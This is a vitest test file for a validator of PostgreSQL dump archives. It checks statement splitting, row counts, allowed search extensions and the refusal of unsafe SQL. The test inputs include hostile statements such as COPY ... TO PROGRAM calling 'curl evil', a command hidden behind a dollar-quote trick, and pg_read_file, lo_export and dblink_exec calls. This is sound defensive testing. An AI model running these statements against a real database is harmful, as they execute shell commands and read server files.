import { describe, expect, it } from 'vitest'
import { DumpError, portable, statements, summarise } from './sql'

const dump = `--
-- PostgreSQL database dump
--
\\restrict abc123

SET statement_timeout = 0;
SELECT pg_catalog.set_config('search_path', '', false);
CREATE TABLE public.comments (
    id integer NOT NULL,
    content character varying
);
INSERT INTO public.comments VALUES (1, 'a; b -- not a comment');
INSERT INTO public.comments VALUES (2, 'it''s
two lines;');
INSERT INTO public.payload_migrations VALUES (1, '20261121_070618_initial', 1, '2026-11-21 07:06:18+00', '2026-11-21 07:06:18+00');
SELECT pg_catalog.setval('public.comments_id_seq', 2, true);

\\unrestrict abc123
`

describe('the database part of an archive', () => {
  it('splits statements where they end, not at a ; inside a value, and drops psql lines', () => {
    const sql = portable(dump)
    expect(sql).not.toContain('restrict')
    const all = [...statements(sql)]
    expect(all).toHaveLength(7)
    expect(all[3]).toBe("INSERT INTO public.comments VALUES (1, 'a; b -- not a comment');")
    expect(all[4]).toBe("INSERT INTO public.comments VALUES (2, 'it''s\ntwo lines;');")
  })

  it('counts the rows of each table and lists the migrations', () => {
    expect(summarise(portable(dump))).toEqual({ tables: { comments: 2, payload_migrations: 1 }, migrations: ['20261121_070618_initial'], statements: 7 })
  })

  it("takes the site search's extensions, text search configuration and indexes, and no other extension", () => {
    const search = [
      'CREATE EXTENSION IF NOT EXISTS unaccent WITH SCHEMA public;',
      "COMMENT ON EXTENSION unaccent IS 'text search dictionary that removes accents';",
      'CREATE TEXT SEARCH CONFIGURATION public.site_search (\n    PARSER = pg_catalog."default" );',
      'ALTER TEXT SEARCH CONFIGURATION public.site_search\n    ADD MAPPING FOR asciiword WITH public.unaccent, english_stem;',
      'ALTER TEXT SEARCH CONFIGURATION public.site_search\n    ADD MAPPING FOR "int" WITH simple;',
      'CREATE INDEX albums_search_vector_idx ON public.albums USING gin (search_vector);',
      "CREATE INDEX albums_title_words_idx ON public.albums USING gin (search_title_words) WITH (fastupdate='off');",
      'CREATE INDEX albums_title_trgm_idx ON public.albums USING gist (search_title public.gist_trgm_ops);',
    ].join('\n')
    expect(summarise(search).statements).toBe(8)
    expect(() => summarise('CREATE EXTENSION IF NOT EXISTS plpython3u WITH SCHEMA public;')).toThrow(DumpError)
  })

  it('takes an index whose name pg_dump quotes for its capitals (the newsletter\'s deliveries)', () => {
    const index = 'CREATE UNIQUE INDEX "releaseMail_subscriber_idx" ON public.release_mail_recipients USING btree (release_mail_id, subscriber_id);'
    expect(summarise(index).statements).toBe(1)
  })

  it('refuses what pg_dump never writes for this site, and a dump cut in a statement', () => {
    expect(() => summarise(`COPY public.users TO PROGRAM 'curl evil';`)).toThrow(DumpError)
    expect(() => summarise(`CREATE FUNCTION public.f() RETURNS int AS $$ SELECT 1; $$ LANGUAGE sql;`)).toThrow(/does not write for this site/)
    expect(() => summarise(`INSERT INTO public.users VALUES (1, 'half`)).toThrow(/ends in the middle of a statement/)
  })

  it('reads a dollar quote whose tag holds digits as PostgreSQL does, and refuses what hid behind it', () => {
    const hidden = `INSERT INTO public.payload_kv VALUES (98, $a1$'$a1$, '{}'); COPY (SELECT 1) TO PROGRAM 'id'; SELECT $a1$'$a1$;`
    expect([...statements(hidden)]).toHaveLength(3)
    expect(() => summarise(hidden)).toThrow(/does not write for this site/)
  })

  it('refuses a schema statement that calls a function the site\'s schema does not, where it would run as rows are written', () => {
    for (const statement of [
      `CREATE TABLE public.t (\n    id integer DEFAULT pg_read_file('/etc/hostname')::integer NOT NULL\n);`,
      `ALTER TABLE ONLY public.t\n    ADD CONSTRAINT c CHECK ((lo_export(1, '/tmp/x') > 0));`,
      `CREATE INDEX i ON public.t USING btree (dblink_exec('x'));`,
    ]) {
      expect(() => summarise(statement), statement).toThrow(/calls/)
    }
    expect(summarise(`CREATE TABLE public.t (\n    id integer DEFAULT nextval('public.t_id_seq'::regclass),\n    "created_at" timestamp(3) with time zone DEFAULT now() NOT NULL\n);`).tables).toEqual({ t: 0 })
  })

  it('takes a row holding a value of megabytes, quotes doubled all through it', () => {
    const huge = "it''s a line\n".repeat(1_500_000)
    expect(summarise(`INSERT INTO public.t VALUES (1, '${huge}');`).tables).toEqual({ t: 1 })
  })

  it('takes rows of literals only: NULL, booleans, numbers, quoted strings and DEFAULT, never an expression', () => {
    expect(summarise(`INSERT INTO public.t VALUES (1, -2.5, 1e+20, NULL, true, false, 'it''s', '{"a": [1]}', '', DEFAULT);`).tables).toEqual({ t: 1 })
    for (const row of [
      `INSERT INTO public.t VALUES (97, 'leak', to_jsonb(pg_read_file('/etc/hostname')));`,
      `INSERT INTO public.t VALUES (1, (SELECT 1));`,
      `INSERT INTO public.t VALUES (1, 'a' || 'b');`,
      `INSERT INTO public.t VALUES (1, $$x$$);`,
      `INSERT INTO public.t VALUES (1, 'x'::text);`,
      `INSERT INTO public.t VALUES (1), (2);`,
    ]) {
      expect(() => summarise(row), row).toThrow(/does not write for this site/)
    }
  })
})
